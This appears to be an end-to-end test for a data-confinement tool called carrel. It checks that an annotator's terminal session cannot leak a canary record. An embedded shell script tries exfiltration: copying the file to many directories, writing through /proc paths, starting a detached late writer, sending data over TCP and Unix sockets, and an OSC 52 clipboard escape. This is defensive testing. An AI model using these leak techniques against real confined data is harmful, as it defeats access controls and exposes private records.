"""alice's session on a terminal of its own: she sees the view, the canary she
reads is found nowhere outside afterwards, redirected output is refused, the
exit code comes back, the log has it all.
"""
# SPDX-License-Identifier: Apache-2.0
import json
import os
import random
import subprocess

from carrel import CARREL, Room, check, need_fuse, on_pty, skip

# Words, of which no recognizer makes more than names, which are kept; drawn
# anew, so that no other run of this test and no source file holds it.
CANARY = 'canary-' + '-'.join(random.SystemRandom().sample(
    'quill marigold teasel heron lantern fennel otter bramble juniper '
    'mallow plover sorrel thistle wren yarrow clover'.split(), 7))
POLICY = '''carrel: 1
project: p
purpose: annotation
datasets: [d]
confinement: guard-rail
roles:
  r:
    see: [ { files: "d/**", records: all } ]
    redact:
      { default: tag, PERSON: keep, LOCATION: keep, ORGANIZATION: keep }
    names: keep
    allow: { terminal: true }
annotators: { alice: { role: r } }
'''
MANIFEST = '''carrel-dataset: 1
name: d
terms: { purposes: [annotation], projects: [p] }
files:
  - { match: "**/*.json", records: "$[*]" }
'''
# A length of its own for each run, by which its process is found.
SLEEP = f'sleep {random.SystemRandom().randrange(10 ** 6, 10 ** 7)}'
TRIES = r'''
f=/carrel/data/d/a.json
for to in /tmp/out /dev/shm/out /var/tmp/out /home/out "$HOME/out" /out \
    /carrel/data/out /run/out /root/out /etc/out; do
    cat $f > $to 2>/dev/null; cp $f $to 2>/dev/null
    ln $f $to.l 2>/dev/null; dd if=$f of=$to.dd 2>/dev/null
done
for pid in 1 2 3 $PPID; do
    cat $f > /proc/$pid/root/tmp/out 2>/dev/null
    cat $f > /proc/$pid/cwd/out 2>/dev/null
done
(setsid sh -c "SLEEP; cat $f > /tmp/late" >/dev/null 2>&1 &)
python3 - <<'P' 2>/dev/null
import socket
data = open('/carrel/data/d/a.json', 'rb').read()
for host in ('127.0.0.1', '10.0.0.1'):
    try:
        s = socket.create_connection((host, 47113), 0.3); s.sendall(data)
    except OSError: pass
try:
    s = socket.socket(socket.AF_UNIX); s.connect('\0carrel-test'); s.sendall(data)
except OSError: pass
P
exit 7
'''.replace('SLEEP', SLEEP)


def found_outside(room, needle):
    hits = []
    for top in ('/tmp', '/var/tmp', '/dev/shm', os.path.expanduser('~'),
                '/run'):
        r = subprocess.run(['grep', '-rlsF', '--exclude-dir=src',
                            '--exclude-dir=.git', '-e', needle, top],
                           capture_output=True, text=True)
        hits += [h for h in r.stdout.split('\n')
                 if h and not h.startswith(room.path('d'))
                 and 'e2e/' not in h
                 and room.path('try.sh') not in h]
    return hits


def nothing_outside(room):
    """The search finds what the test leaves, amid bytes that are no text, and
    nothing that the session left."""
    left = room.write('left.bin', b'\x00\xff\xfe' + CANARY.encode() + b'\x00')
    hits = found_outside(room, CANARY)
    os.unlink(left)
    check(left in hits, 'the search finds nothing')
    check(set(hits) == {left}, f'found outside: {hits}')


def namespaces_off(room, run):
    """Where no more user namespaces are allowed: which switch, how to turn."""
    off = 'echo 0 >/proc/sys/user/max_user_namespaces && exec "$@"'
    r = subprocess.run(['unshare', '-Ur', 'sh', '-c', off, 'sh', *run,
                        '--no-terminal', '--', 'true'], env=room.env,
                       capture_output=True, text=True,
                       stdin=subprocess.DEVNULL)
    check(r.returncode == 9 and 'user.max_user_namespaces=' in r.stderr,
          f'namespaces off: {r}')
    r = subprocess.run(['unshare', '-Ur', 'sh', '-c', off, 'sh', CARREL,
                        'doctor', '--json'], env=room.env,
                       capture_output=True, text=True)
    facts = {f['fact']: f for f in json.loads(r.stdout)['facts']}
    check(r.returncode == 9 and
          facts['user namespaces']['state'] == 'missing' and
          'user.max_user_namespaces=' in facts['user namespaces']['advice'],
          f'doctor: {r}')


def main():
    need_fuse()
    r = subprocess.run(['unshare', '-U', 'true'], capture_output=True)
    if r.returncode != 0:
        skip('user namespaces are off here')
    with Room() as room:
        room.write('d/a.json', json.dumps(
            [{'text': CANARY + ' mail bob@example.org'}]))
        man = room.write('m.yaml', MANIFEST)
        pol = room.write('p.yaml', POLICY)
        room.run('ingest', '--dataset', 'd', '--manifest', man,
                 room.path('d'))
        run = [CARREL, 'run', '--policy', pol, '--as', 'alice']

        code, out = on_pty([*run, '--', 'cat', '/carrel/data/d/a.json'],
                           room.env)
        check(code == 0, f'exit {code}: {out.decode(errors="replace")}')
        check(CANARY.encode() in out and b'bob@' not in out, repr(out))
        check(b': guard-rail (not against another terminal of this account)' in
              out, 'the start line does not say what guard-rail is not')

        code, out = on_pty([*run, '--', 'sh', '-c', TRIES], room.env)
        check(code == 7, f'exit code {code}: {out.decode(errors="replace")}')
        os.unlink(room.path('d/a.json'))
        nothing_outside(room)
        check(not subprocess.run(['pgrep', '-f', SLEEP],
                                 capture_output=True).stdout,
              'a process outlived the session')

        r = subprocess.run([*run, '--', 'cat', '/carrel/data/d/a.json'],
                           env=room.env, capture_output=True,
                           stdin=subprocess.DEVNULL)
        check(r.returncode == 2, f'output to a pipe: exit {r.returncode}')
        check(CANARY.encode() not in r.stdout, 'it came out of the pipe')

        r = subprocess.run([*run, '--no-terminal', '--', 'cat',
                            '/carrel/data/d/a.json'], env=room.env,
                           capture_output=True, stdin=subprocess.DEVNULL)
        check(r.returncode == 0 and CANARY.encode() not in
              r.stdout + r.stderr, f'--no-terminal: {r}')

        osc = 'printf "\\033]52;c;%s\\007" "$(head -c 20 ' \
              '/carrel/data/d/a.json | base64)"; echo end'
        code, out = on_pty([*run, '--', 'sh', '-c', osc], room.env)
        check(b'end' in out and b'\x1b]52' not in out and
              b'\x9d' not in out, repr(out))

        strict = room.write('s.yaml', POLICY.replace('guard-rail',
                                                     'boundary'))
        r = room.run('run', '--no-terminal', '--policy', strict, '--as',
                     'alice', '--', 'true', code=5)
        check('boundary' in r.stderr, r.stderr)

        namespaces_off(room, run)

        log = room.log()
        starts = [e for e in log if e['kind'] == 'SESSION_START']
        ends = [e for e in log if e['kind'] == 'SESSION_END']
        check(len(starts) == len(ends) == 4, f'{len(starts)} {len(ends)}')
        check(all(e['confinement'] == 'guard-rail' for e in starts),
              str(starts[0]))
        # Not what the annotator's process says of itself, nor the uid inside.
        check(all(e['uid'] == os.getuid() for e in starts), str(starts[0]))
        facts = json.loads(starts[0]['facts'])
        check(facts['strength'] == 'guard-rail' and
              len(facts['seccomp']) == 64 and
              facts['userns_owner'] == os.getuid() and
              facts['no_more_because'], str(facts))
        check(ends[0]['tty_out'] > 0, 'terminal bytes are not counted')
        reads = [e for e in log if e['kind'] == 'READ']
        check(len(reads) >= 4, f'{len(reads)} reads')
        for s in starts:
            room.run('audit', 'replay', '--session', str(s['seq']))
        room.run('audit', 'verify', '--key', room.vkey)


main()
